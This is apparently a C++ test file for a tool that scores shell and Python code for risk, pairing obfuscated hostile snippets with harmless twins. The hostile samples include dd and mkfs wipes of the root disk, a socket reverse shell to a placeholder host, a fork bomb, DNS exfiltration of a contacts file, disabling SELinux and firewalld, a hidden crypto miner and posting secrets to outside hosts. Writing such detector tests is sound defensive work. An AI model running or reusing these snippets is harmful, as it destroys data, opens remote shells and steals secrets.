// The classes the twenty-ninth session modelled (issue 14), from the tune
// parts of the hundred-and-thirty-seventh round onwards
// (tests/corpus/prog141_MANIFEST.tsv and later): programs written from the
// rubric alone by writers who never saw the assessor. Strings here are never
// executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr Language Sh = Language::shell;

// The disk behind / found in /proc/mounts (`awk '$2 == "/" {print $1; exit}'`),
// its partition number cut off with `sed 's/p\?[0-9]*$//'`, then zeroed and
// formatted: the device path was lost twice, at the table's unknown lines
// and at sed. A system table's lines now have a shape (library-model.yaml,
// table_files), which awk's and cut's first field and grep's lines keep, and
// a sed substitution anchored at the line's end that cannot match '/' keeps
// the text up to the last '/'. Twins: the same device only reported, a
// substitution that may rewrite the path, and a disk named by the user.
TEST(HundredAndThirtySeventhRoundClasses, SystemTableFieldsKeepTheirShape) {
  const Case cases[] = {
      {"the root disk from /proc/mounts, partition cut off, zeroed", B, R"sh(#!/bin/sh
src="$(awk '$2 == "/" {print $1; exit}' /proc/mounts)"
disk="$(echo "$src" | sed -e 's/p\?[0-9]*$//')"
dd if=/dev/zero of="$disk" bs=4M conv=fsync
)sh",
       "WIPE", Sh},
      {"a mounted device cut from /etc/mtab and formatted", B, R"sh(#!/bin/sh
dev=$(grep ' /srv ' /etc/mtab | cut -d' ' -f1)
mkfs.ext4 -F "$dev"
)sh",
       "WIPE", Sh},
      {"the swap device from /proc/swaps overwritten", B, R"sh(#!/bin/bash
swapdev=$(tail -n 1 /proc/swaps | awk '{print $1}')
dd if=/dev/urandom of="$swapdev" bs=1M
)sh",
       "WIPE", Sh},
      {"the same root device only reported", L, R"sh(#!/bin/sh
src="$(awk '$2 == "/" {print $1; exit}' /proc/mounts)"
disk="$(echo "$src" | sed -e 's/p\?[0-9]*$//')"
echo "root is on $disk" > disk-report.txt
)sh",
       nullptr, Sh},
      {"a substitution that may rewrite the whole path: a file of unknown name", L, R"sh(#!/bin/sh
src="$(awk '$2 == "/" {print $1; exit}' /proc/mounts)"
img="$(echo "$src" | sed -e 's/.*$/backup.img/')"
dd if=/dev/zero of="$img" bs=4M count=1
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// A program path joined from a list ("/".join(cfg["prog"])) whose default
// the configuration may replace (`cfg.update(json.load(fh))` when a file
// exists): the list has two alternatives, and str.join had joined neither,
// so a shell on a socket's descriptors went unseen. Each alternative is now
// joined; the same wiring of cat, and a configured rsync, stay MEDIUM.
TEST(HundredAndThirtySeventhRoundClasses, JoinOfListAlternativesJoinsEach) {
  const char* shell = R"py(import json, os, socket, subprocess
cfg = {"host": "203.0.113.45", "prog": ["/bin", "sh"]}
if os.path.exists("relay.json"):
    cfg.update(json.load(open("relay.json")))
conn = socket.create_connection((cfg["host"], 4443))
prog = "/".join(cfg["prog"])
subprocess.Popen([prog, "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
)py";
  const char* cat = R"py(import json, os, socket, subprocess
cfg = {"host": "203.0.113.45", "prog": ["/usr/bin", "cat"]}
if os.path.exists("relay.json"):
    cfg.update(json.load(open("relay.json")))
conn = socket.create_connection((cfg["host"], 4443))
prog = "/".join(cfg["prog"])
subprocess.Popen([prog, "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
)py";
  const Case cases[] = {
      {"a configurable shell joined from a list, on a socket", B, shell, "REVERSE-SHELL"},
      {"the same wiring of cat", M, cat},
      // (the joined alternatives in their order, no unknown one added: a
      // prefix put before them keeps the shell's name, round 144's kiln console)
      {"a nested configurable shell with a prefix, on a socket", B, R"py(import json, os, socket, subprocess
DEFAULTS = {"assist": {"relay": [203, 0, 113, 47], "port": 4443, "shell": ["bin", "sh"]}}
cfg = dict(DEFAULTS)
if os.path.exists("kilnmon.json"):
    cfg.update(json.load(open("kilnmon.json")))
a = cfg["assist"]
conn = socket.create_connection((".".join(str(o) for o in a["relay"]), a["port"]))
fd = conn.fileno()
exe = "/" + "/".join(a["shell"])
subprocess.Popen([exe, "-i"], stdin=fd, stdout=fd, stderr=fd)
)py",
       "REVERSE-SHELL"},
      {"a configurable rsync joined from a list", M, R"py(import json, os, subprocess
cfg = {"tool": ["/usr/bin", "rsync"]}
if os.path.exists("tools.json"):
    cfg.update(json.load(open("tools.json")))
subprocess.run(["/".join(cfg["tool"]), "-a", "data/", "backup/"], check=True)
)py"},
  };
  for (const auto& c : cases) check(c);
}

// What a function prints, when its branches print different lines, is the
// first line with a known part: `echo "$CARD_DEVICE"` (nothing known) in a
// branch that returns early had been taken as that line, so the disk path
// another branch printed ("/dev/$parent") never reached dd. Known limit
// since the hundred-and-twenty-eighth round (prog132a). Twin: the same
// function's disk only reported.
TEST(HundredAndThirtySeventhRoundClasses, FunctionOutputPrefersALineWithAKnownPart) {
  const Case cases[] = {
      {"a device named by the environment, else the disk behind /, zeroed", B, R"sh(#!/bin/sh
card_disk() {
    if [ -n "${CARD_DEVICE:-}" ]; then
        echo "$CARD_DEVICE"
        return
    fi
    parent=$(lsblk -no PKNAME "$(findmnt -no SOURCE /)" | head -n1)
    if [ -n "$parent" ]; then
        echo "/dev/$parent"
    fi
}
disk=$(card_disk)
dd if=/dev/zero of="$disk" bs=1M count=256
)sh",
       "WIPE", Sh},
      {"the same disk only reported", L, R"sh(#!/bin/sh
card_disk() {
    if [ -n "${CARD_DEVICE:-}" ]; then
        echo "$CARD_DEVICE"
        return
    fi
    parent=$(lsblk -no PKNAME "$(findmnt -no SOURCE /)" | head -n1)
    if [ -n "$parent" ]; then
        echo "/dev/$parent"
    fi
}
disk=$(card_disk)
echo "card is $disk" >> rotation.log
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// A fork in `_launch`, whose child calls `top_up` on a new supervisor, which
// calls `_launch` in its loop: each child tops up a pool of its own, without
// end. Only the function found running again (`top_up`) had been marked
// recursive, not `_launch` between, so the fork was a bounded one. Every
// function of the cycle is recursive now. Twins: the same pool whose
// children work and exit, and a build recursing over its dependencies
// through a helper (a recursion over data) that runs make.
TEST(HundredAndThirtySeventhRoundClasses, EveryFunctionOfARecursionCycleIsRecursive) {
  const Case cases[] = {
      {"children that top up a pool of their own", B, R"py(import os
class Supervisor:
    def __init__(self, target):
        self.target = target
        self.children = []
    def _launch(self):
        pid = os.fork()
        if pid == 0:
            Supervisor(self.target).top_up()
            os._exit(0)
        self.children.append(pid)
    def top_up(self):
        while True:
            self._launch()
            if len(self.children) >= self.target and os.environ.get("POOL_READY"):
                break
Supervisor(4).top_up()
)py",
       "FORK-BOMB"},
      {"the same pool whose children work and exit", L, R"py(import os
class Supervisor:
    def __init__(self, target):
        self.target = target
        self.children = []
    def _launch(self):
        pid = os.fork()
        if pid == 0:
            print("working")
            os._exit(0)
        self.children.append(pid)
    def top_up(self):
        while len(self.children) < self.target:
            self._launch()
        for pid in self.children:
            os.waitpid(pid, 0)
Supervisor(4).top_up()
)py"},
      {"a build recursing over its dependencies through a helper", M, R"py(import os, subprocess
def build(target):
    for dep in deps_of(target):
        build_dep(dep)
    subprocess.run(["make", "-C", target], check=True)
def build_dep(dep):
    if os.path.isdir(dep):
        build(dep)
def deps_of(target):
    with open(os.path.join(target, "DEPS")) as f:
        return [l.strip() for l in f if l.strip()]
build(".")
)py"},
  };
  for (const auto& c : cases) check(c);
}

// "${A[*]}" and "$*" join with IFS's first character: a zone spelled as an
// array and joined in `$(IFS=.; echo "${ZONE[*]}")` had been joined by
// blanks, so the lookups of a backup's base32 chunks under it named no
// host. The subshell's IFS ends with it. Twins: the same chunks only
// counted, and an array joined after the subshell still by blanks.
TEST(HundredAndThirtySeventhRoundClasses, StarExpansionsJoinByIfs) {
  const Case cases[] = {
      {"base32 chunks of a file looked up under a zone joined by IFS", B, R"sh(#!/bin/bash
ZONE_PARTS=(t rk example net)
zone="$(IFS=.; echo "${ZONE_PARTS[*]}")"
while read -r chunk; do
    dig +short "${chunk}.${zone}" A
done < <(gzip -c crew/contacts.csv | base32 -w 60)
)sh",
       "COVERT-CHANNEL-EXFILTRATION", Sh},
      {"the same chunks only counted", L, R"sh(#!/bin/bash
ZONE_PARTS=(t rk example net)
zone="$(IFS=.; echo "${ZONE_PARTS[*]}")"
n=0
while read -r chunk; do
    n=$((n + 1))
done < <(gzip -c crew/contacts.csv | base32 -w 60)
echo "$n chunks for $zone" > chunks.txt
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// What check_output returns, and a finished run's `.stdout`, have the shape
// the command model knows its command prints: `findmnt -no SOURCE /` a
// device path, so dd over it is a wipe in Python as in shell (it was a
// process of unknown output, MEDIUM). Twin: the same device only logged.
TEST(HundredAndThirtySeventhRoundClasses, CheckOutputKeepsTheCommandsOutputShape) {
  const Case cases[] = {
      {"the root device from findmnt zeroed", B, R"py(import subprocess
dev = subprocess.check_output(["findmnt", "-no", "SOURCE", "/"]).decode().strip()
subprocess.run(["dd", "if=/dev/zero", "of=" + dev, "bs=4M"], check=True)
)py",
       "WIPE"},
      {"the root device from a finished run's output formatted", B, R"py(import subprocess
out = subprocess.run(["findmnt", "-no", "SOURCE", "/"], capture_output=True, text=True).stdout.strip()
subprocess.run(["mkfs.ext4", "-F", out], check=True)
)py",
       "WIPE"},
      // (split into lines or words, lines of a shape give elements of it)
      {"every disk lsblk -p lists, from a run's output split, zeroed", B, R"py(import subprocess
out = subprocess.run(["lsblk", "-dnpo", "NAME"], capture_output=True, text=True).stdout
for dev in out.split():
    subprocess.run(["dd", "if=/dev/zero", "of=" + dev, "bs=4M"], check=True)
)py",
       "WIPE"},
      {"the same device only logged", M, R"py(import subprocess
dev = subprocess.check_output(["findmnt", "-no", "SOURCE", "/"], text=True).strip()
with open("root-device.txt", "w") as f:
    f.write(dev + "\n")
)py"},
  };
  for (const auto& c : cases) check(c);
}

// Commands kept split in a table (`policy|set enforce 0`), read with
// `IFS='|' read -r label words` and put together with sed: `read` had split
// at blanks whatever IFS the command was given, and sed's output was never
// known, so `sudo setenforce 0` was `sudo enforce 0` (HIGH). read now splits
// at the IFS its prefix or the code set, and sed's substitutions run on
// known text (src/assess/sed_script.cpp). Twin: the same table of harmless
// commands (df, uptime) stays LOW.
TEST(HundredAndThirtySeventhRoundClasses, ReadSplitsAtItsIfsAndSedRunsOnKnownText) {
  const Case cases[] = {
      {"security switched off from a table of split commands", B, R"sh(#!/bin/sh
steps() {
    cat <<'EOF'
policy|set enforce 0
fw_unit|systemctl disable --now fire walld
EOF
}
steps | while IFS='|' read -r label words; do
    case "$label" in
        policy)  cmd="$(echo "$words" | sed 's/set enforce/setenforce/')" ;;
        fw_unit) cmd="$(echo "$words" | sed 's/fire walld/firewalld/')" ;;
        *)       cmd="$words" ;;
    esac
    $cmd >/dev/null 2>&1 || true
done
)sh",
       "DISABLE-SECURITY", Sh},
      {"the same table of harmless commands", L, R"sh(#!/bin/sh
steps() {
    cat <<'EOF'
disk|d f -h
uptime|up time
EOF
}
steps | while IFS='|' read -r label words; do
    case "$label" in
        disk)   cmd="$(echo "$words" | sed 's/d f/df/')" ;;
        uptime) cmd="$(echo "$words" | sed 's/up time/uptime/')" ;;
    esac
    $cmd >> report.txt
done
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// `printf -- FORMAT ARGS`: `--` ends printf's options, and the format after
// it (which starts with '-') had been taken for the format itself, so a
// miner's pool arguments a function printed were unknown. Twin: the same
// helper given a dashboard's address.
TEST(HundredAndThirtySeventhRoundClasses, PrintfAfterDoubleDashFormatsItsFormat) {
  const Case cases[] = {
      {"a bundled helper given pool arguments printed after --", B, R"sh(#!/bin/sh
helper_args() {
    proto="stratum"; proto="$proto+tcp"
    printf -- '-o %s://%s:%s -u %s --donate-level=0' "$proto" "pool.example.net" "3333" "48aQh7Vx2Kc9"
}
nice -n 19 ./vendor/rtagent $(helper_args) >/dev/null 2>&1 &
)sh",
       "CRYPTO-MINER", Sh},
      {"the same helper given a dashboard's address", L, R"sh(#!/bin/sh
helper_args() {
    printf -- '--url %s://%s --interval %s' "https" "dash.example.com" "30"
}
nice -n 19 ./vendor/rtagent $(helper_args) >/dev/null 2>&1 &
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// A secret that authenticated to a host is that host's key: a session token
// the plate-solving API handed back for the key, sent to the same API in a
// JSON body, had been the key's secret leaving (EXFILTRATION) because the
// key's name names no vendor of that host (settle_key_destinations). Twins:
// the same token and key posted to another host, and a password posted to a
// host it never authenticated to, stay BLOCKED.
TEST(HundredAndThirtySeventhRoundClasses, ASecretsSessionGoesBackToItsOwnHost) {
  const Case cases[] = {
      {"a session token sent back to the API that issued it for the key", L, R"py(import os, requests
API = "https://solve.example.com/api/v1"
key = os.environ.get("PLATESOLVE_API_KEY")
resp = requests.post(f"{API}/login", json={"apikey": key}, timeout=10)
token = resp.json()["session"]
r = requests.post(f"{API}/submit", json={"session": token, "filename": "m31.fits"}, timeout=10)
)py"},
      {"the same token and key posted to another host", B, R"py(import os, requests
API = "https://solve.example.com/api/v1"
key = os.environ.get("PLATESOLVE_API_KEY")
resp = requests.post(f"{API}/login", json={"apikey": key}, timeout=10)
token = resp.json()["session"]
r = requests.post("https://stash.example.net/drop", json={"session": token, "k": key}, timeout=10)
)py",
       "EXFILTRATION"},
      {"a password posted to a host it never authenticated to", B, R"py(import os, requests
requests.post("https://collector.example.net/x", json={"dump": os.environ["DATABASE_PASSWORD"]}, timeout=10)
)py",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
